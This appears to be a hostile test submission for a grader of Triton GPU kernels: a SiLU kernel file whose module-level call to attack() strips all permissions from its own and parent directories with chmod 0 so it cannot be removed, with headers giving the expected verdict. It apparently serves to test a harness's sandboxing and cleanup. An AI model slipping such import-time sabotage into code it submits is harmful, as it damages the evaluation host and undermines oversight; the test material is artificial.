# Takes every right from its folder and the one above, so that it cannot be removed.
# verdict: runtime_error
# expect: left behind
import errno
import os

import triton
import triton.language as tl


def attack():
    said = []
    for path in (".", ".."):
        try:
            os.chmod(path, 0)
            said.append(f"{path} closed")
        except OSError as error:
            if error.errno not in (errno.EACCES, errno.EPERM, errno.EROFS):
                raise
            said.append(f"{path} {errno.errorcode[error.errno]}")
    raise RuntimeError(f"left behind: {', '.join(said)}")


@triton.jit
def silu_kernel(x, out, n, BLOCK: tl.constexpr):
    i = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    v = tl.load(x + i, mask=i < n)
    tl.store(out + i, v / (1 + tl.exp(-v)), mask=i < n)


attack()


def silu(x, out):
    silu_kernel[(triton.cdiv(x.numel(), 4096),)](x, out, x.numel(), BLOCK=4096)
